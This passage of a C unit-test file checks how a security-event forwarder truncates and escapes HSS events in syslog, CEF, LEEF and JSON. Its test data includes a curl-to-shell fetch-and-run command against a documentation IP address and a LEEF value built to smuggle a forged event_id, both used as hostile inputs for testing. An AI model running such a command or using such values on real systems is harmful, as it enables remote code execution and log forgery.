 * (values cut), 1024 (the event's structure alone is too long: its
 * identity) and 480 (the identity, the rest left out), where it was
 * shrunk: tests/data/format/fit-MAX.VARIANT.txt. Down to 1024, the
 * identity is whole.
 */
static void
test_fit_golden(void **state)
{
	static const size_t	 maxes[] = { 4096, 1024, 480 };
	struct hss_event	*ev = official_event(), *e2;
	struct buf		 b, err, full, s;
	cJSON			*o, *p;
	char			*name;
	size_t			 i, k, n = 0;
	int			 trunc;

	buf_init(&b);
	buf_init(&err);
	buf_init(&full);
	buf_init(&s);
	while (s.len < 3000)
		buf_adds(&s, "python3 -c \"import os; os.system('curl "
		    "http://198.51.100.9/x|sh')\" \\ ] = \xe7\x95\x8c ");
	o = cJSON_Duplicate(ev->json, 1);
	p = cJSON_GetArrayItem(cJSON_GetObjectItem(o, "process_info_list"),
	    0);
	cJSON_ReplaceItemInObjectCaseSensitive(p, "process_cmdline",
	    cJSON_CreateString(s.data));
	buf_truncate(&s, 1500);
	cJSON_ReplaceItemInObjectCaseSensitive(o, "event_details",
	    cJSON_CreateString(s.data));
	assert_non_null(e2 = event_from_json(o, &err));
	for (i = 0; i < HSS_ARRAY_LEN(variants); i++) {
		ctx_reset(variants[i].fmt, variants[i].framing,
		    variants[i].hdr);
		buf_reset(&full);
		format_event(&full, e2, &ctx, &trunc);
		for (k = 0; k < HSS_ARRAY_LEN(maxes); k++) {
			oc.max_message_size = maxes[k];
			buf_reset(&b);
			format_event(&b, e2, &ctx, &trunc);
			assert_int_equal(trunc, full.len > maxes[k]);
			check_fit(e2, &b, full.len, i, maxes[k],
			    maxes[k] >= 1024);
			if (!trunc)
				continue;
			name = xasprintf("fit-%zu.%s", maxes[k],
			    variants[i].name);
			golden(name, &b);
			free(name);
			n++;
		}
	}
	assert_int_equal(n, 17);
	hss_event_free(ev);
	hss_event_free(e2);
	buf_free(&b);
	buf_free(&err);
	buf_free(&full);
	buf_free(&s);
}

/* A message exactly at the limit is not truncated; one byte less is. */
static void
test_truncation_boundary(void **state)
{
	struct hss_event	*ev = official_event();
	struct buf		 b;
	size_t			 vi, len;
	int			 trunc;

	buf_init(&b);
	for (vi = 0; vi < HSS_ARRAY_LEN(variants); vi++) {
		ctx_reset(variants[vi].fmt, variants[vi].framing,
		    variants[vi].hdr);
		buf_reset(&b);
		format_event(&b, ev, &ctx, &trunc);
		len = b.len;
		oc.max_message_size = len;
		buf_reset(&b);
		format_event(&b, ev, &ctx, &trunc);
		assert_int_equal(trunc, 0);
		assert_int_equal(b.len, len);
		oc.max_message_size = len - 1;
		buf_reset(&b);
		format_event(&b, ev, &ctx, &trunc);
		assert_int_equal(trunc, 1);
		assert_true(b.len <= len - 1);
	}
	/* appending keeps what the buffer held */
	ctx_reset(FORMAT_JSON, FRAMING_LF, 0);
	buf_reset(&b);
	buf_adds(&b, "prefix");
	oc.max_message_size = 100;
	format_event(&b, ev, &ctx, &trunc);
	assert_int_equal(memcmp(b.data, "prefix{\"event_id\":", 18), 0);
	hss_event_free(ev);
	buf_free(&b);
}

/* The JSON object of buf must parse; returns it. */
static cJSON *
parse_json_msg(const struct buf *b)
{
	cJSON	*j;

	if ((j = cJSON_ParseWithLength(b->data, b->len)) == NULL)
		fail_msg("not JSON: %s", b->data);
	return j;
}

/*
 * JSON: an event_id that is long once written (64 control characters are
 * 384 bytes as \u00XX) leaves little room at 480 with the _hss members:
 * the identity members are cut, the id between two escapes. With _hss
 * members too long for any limit: {"event_id","occur_time","_hss":{
 * "truncated","original_size"}}. (A regression input of the page fuzz
 * target.)
 */
static void
test_json_stub_fits(void **state)
{
	static const char	*ids[] = {
		"\x01", "\"", "\xe2\x82\xac", "a",
	};
	struct hss_event	*ev = official_event();
	struct buf		 b, id, full;
	cJSON			*j, *hss;
	char			*longname;
	size_t			 i, k, max;
	int			 trunc;

	buf_init(&b);
	buf_init(&id);
	buf_init(&full);
	for (i = 0; i < HSS_ARRAY_LEN(ids); i++) {
		buf_reset(&id);
		for (k = 0; k < 64; k++)
			buf_adds(&id, ids[i]);
		cJSON_ReplaceItemInObjectCaseSensitive(ev->json, "event_id",
		    cJSON_CreateString(id.data));
		ev->event_id = cJSON_GetObjectItemCaseSensitive(ev->json,
		    "event_id")->valuestring;
		ctx_reset(FORMAT_JSON, FRAMING_OCTET_COUNTING, 0);
		buf_reset(&full);
		format_event(&full, ev, &ctx, &trunc);
		for (max = 480; max <= 900; max += 7) {
			oc.max_message_size = max;
			buf_reset(&b);
			format_event(&b, ev, &ctx, &trunc);
			assert_int_equal(trunc, 1);
			check_fit(ev, &b, full.len, 6, max, 0);
		}
	}
	/* _hss members longer than the limit: the minimal object */
	ctx_reset(FORMAT_JSON, FRAMING_LF, 0);
	oc.max_message_size = 480;
	longname = xmalloc(600);
	memset(longname, 'r', 599);
	longname[599] = '\0';
	ctx.region = longname;
	buf_reset(&b);
	format_event(&b, ev, &ctx, &trunc);
	assert_true(b.len <= 480);
	j = parse_json_msg(&b);
	assert_int_equal(cJSON_GetArraySize(j), 3);
	assert_string_equal(cJSON_GetObjectItemCaseSensitive(j,
	    "event_id")->valuestring, ev->event_id);
	hss = cJSON_GetObjectItemCaseSensitive(j, "_hss");
	assert_true(cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(hss,
	    "truncated")));
	assert_null(cJSON_GetObjectItemCaseSensitive(hss, "region"));
	cJSON_Delete(j);
	free(longname);
	hss_event_free(ev);
	buf_free(&b);
	buf_free(&id);
	buf_free(&full);
}

/*
 * LEEF: with every delimiter config.c accepts, the message splits into
 * exactly the pairs written, each key whole (keys are [A-Za-z0-9_]), even
 * when every value holds the delimiter.
 */
static void
test_leef_keys_whole(void **state)
{
	static const char	 delims[] = CONFIG_LEEF_DELIMITERS;
	struct hss_event	*ev = official_event(), *e2;
	struct buf		 b, err;
	cJSON			*o;
	char			*p, *field, *eq, sep[2], *save, *dup;
	char			 v[64];
	size_t			 i, k, npairs;
	int			 trunc;

	buf_init(&b);
	buf_init(&err);
	for (i = 0; i < strlen(delims); i++) {
		snprintf(v, sizeof(v), "a%cb=c%cevent_id=forged", delims[i],
		    delims[i]);
		o = cJSON_Duplicate(ev->json, 1);
		cJSON_ReplaceItemInObjectCaseSensitive(o, "host_name",
		    cJSON_CreateString(v));
		cJSON_ReplaceItemInObjectCaseSensitive(o, "severity",
		    cJSON_CreateString(v));
		ctx_reset(FORMAT_LEEF, FRAMING_LF, 0);
		oc.leef_delimiter = delims[i];
		buf_reset(&b);
		assert_non_null(e2 = event_from_json(o, &err));
		format_event(&b, e2, &ctx, &trunc);
		hss_event_free(e2);
		/* the header: 6 fields separated by '|', then the pairs */
		p = b.data;
		for (k = 0; k < 6; k++) {
			assert_non_null(p = strchr(p, '|'));
			p++;
		}
		dup = xstrdup(p);
		sep[0] = delims[i];
		sep[1] = '\0';
		npairs = 0;
		for (field = strtok_r(dup, sep, &save); field != NULL;
		    field = strtok_r(NULL, sep, &save)) {
			assert_non_null(eq = strchr(field, '='));
			for (p = field; p < eq; p++)
				if (!(isalnum((unsigned char)*p) || *p == '_'))
					fail_msg("delimiter %02x: key split: "
					    "%s", (unsigned)delims[i], field);
			if (strncmp(field, "event_id=", 9) == 0)
				assert_string_equal(field + 9,
				    ev->event_id);
			npairs++;
		}
		assert_true(npairs > 10);
		assert_non_null(strstr(b.data, "identHostName=ab=cevent_id="
		    "forged"));
		free(dup);
	}
	hss_event_free(ev);
	buf_free(&b);
	buf_free(&err);
}

static void
test_severity_and_numbers(void **state)
{
	struct buf	 b;
	cJSON		*j;
	int		 c;

	assert_int_equal(format_syslog_severity("Critical"), 2);
	assert_int_equal(format_syslog_severity("High"), 3);
	assert_int_equal(format_syslog_severity("Medium"), 4);
	assert_int_equal(format_syslog_severity("Low"), 5);
	assert_int_equal(format_syslog_severity("Security"), 6);
	assert_int_equal(format_syslog_severity("critical"), 5);
	assert_int_equal(format_syslog_severity(NULL), 5);
	assert_int_equal(format_cef_severity("Critical"), 10);
	assert_int_equal(format_cef_severity("High"), 8);
	assert_int_equal(format_cef_severity("Medium"), 5);
	assert_int_equal(format_cef_severity("Low"), 3);
	assert_int_equal(format_cef_severity("Security"), 1);
	assert_int_equal(format_cef_severity("bogus"), 3);

	buf_init(&b);
	j = cJSON_Parse("[0,-0,1661593036627,9007199254740993,1e300,0.1,"
	    "-2.5e-7,1e400,123456789012345678]");
	assert_non_null(j);
	format_json_value(&b, j, 0, NULL);
	assert_string_equal(b.data, "[0,-0,1661593036627,9007199254740992,"
	    "1e+300,0.1,-2.5e-07,null,1.2345678901234568e+17]");
	cJSON_Delete(j);
	buf_reset(&b);
	format_json_string(&b, "q\"b\\n\n\r\t\x01\x7f\xe2\x80\xa8\xff");
	assert_string_equal(b.data, "\"q\\\"b\\\\n\\n\\r\\t\\u0001\\u007f"
	    "\\u2028\xEF\xBF\xBD\"");
	/* every byte between plain text, against the rules spelled out */
	for (c = 1; c < 256; c++) {
		char	 in[4] = { 'a', (char)c, 'b', '\0' }, want[16];

		if (c == '"' || c == '\\')
			snprintf(want, sizeof(want), "\"a\\%cb\"", c);
		else if (c == '\n' || c == '\r' || c == '\t')
			snprintf(want, sizeof(want), "\"a\\%cb\"",
			    c == '\n' ? 'n' : c == '\r' ? 'r' : 't');
		else if (c < 0x20 || c == 0x7f)
			snprintf(want, sizeof(want), "\"a\\u%04xb\"", c);
		else if (c >= 0x80)	/* a lone byte is not UTF-8 */
			snprintf(want, sizeof(want), "\"a\xEF\xBF\xBD" "b\"");
		else
			snprintf(want, sizeof(want), "\"a%cb\"", c);
		buf_reset(&b);
		format_json_string(&b, in);
		assert_string_equal(b.data, want);
	}
	/* integral numbers below 1e17 print as %.0f printed them */
	for (c = 0; c < 57; c++) {
		double	 d = ldexp(1.0, c) - 1.0, n = -d;
		char	 want[64];

		buf_reset(&b);
		format_json_number(&b, d);
		snprintf(want, sizeof(want), "%.0f", d);
		assert_string_equal(b.data, want);
		buf_reset(&b);
		format_json_number(&b, n);
		snprintf(want, sizeof(want), "%.0f", n);
		assert_string_equal(b.data, want);
	}
	buf_free(&b);
}

/* LEEF: a delimiter that is not printable goes in hex. */
static void
test_leef_delimiter(void **state)
{
	struct hss_event	*ev = official_event();
	struct buf		 b;
	int			 trunc;

	buf_init(&b);
	ctx_reset(FORMAT_LEEF, FRAMING_LF, 0);
	oc.leef_delimiter = '\t';
	format_event(&b, ev, &ctx, &trunc);
	assert_int_equal(memcmp(b.data, "LEEF:2.0|Huawei|HSS|v5|4004|x09|"
	    "devTime=2022-08-27T09:37:16.627Z\tdevTimeFormat=", 79), 0);
	buf_reset(&b);
	oc.leef_delimiter = '|';
	format_event(&b, ev, &ctx, &trunc);
	assert_int_equal(memcmp(b.data, "LEEF:2.0|Huawei|HSS|v5|4004|x7C|"
	    "devTime=", 40), 0);
	hss_event_free(ev);
	buf_free(&b);
}
/* A gap in each format: its class, the range, the reason, the re-read
 * command; every output's own header and sequence. */
static void
test_gap(void **state)
{
	static const struct {
		enum output_format	 f;
		const char		*want;
	} cases[] = {
		{ FORMAT_RFC5424, GAP_RFC5424 },
		{ FORMAT_CEF, GAP_CEF },
		{ FORMAT_LEEF, GAP_LEEF },
		{ FORMAT_JSON, GAP_JSON },
	};
	struct format_gap	 g;
	struct buf		 b;
	size_t			 i;

	memset(&g, 0, sizeof(g));
	g.now_ms = 1661593100000LL;
	g.source = "prod";
	g.region = "ap-southeast-1";
	g.project_id = "p1";
	g.category = "host";
	g.begin = 1661593036000LL;
	g.end = 1661593036999LL;
	g.reason = "a page failed to parse (invalid JSON at offset 7); x=\"y\"";
	buf_init(&b);
	for (i = 0; i < HSS_ARRAY_LEN(cases); i++) {
		ctx_reset(cases[i].f, FRAMING_LF, 0);
		buf_reset(&b);
		assert_int_equal(format_gap(&b, &ctx, &g), 0);
		assert_string_equal(b.data, cases[i].want);
	}
	buf_free(&b);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_golden),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_nul_escape_page),
		cmocka_unit_test(test_truncation),
		cmocka_unit_test(test_truncation_boundary),
		cmocka_unit_test(test_severity_and_numbers),
		cmocka_unit_test(test_leef_delimiter),
		cmocka_unit_test(test_json_stub_fits),
		cmocka_unit_test(test_fit_random),
		cmocka_unit_test(test_fit_golden),
		cmocka_unit_test(test_leef_keys_whole),
		cmocka_unit_test(test_gap),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
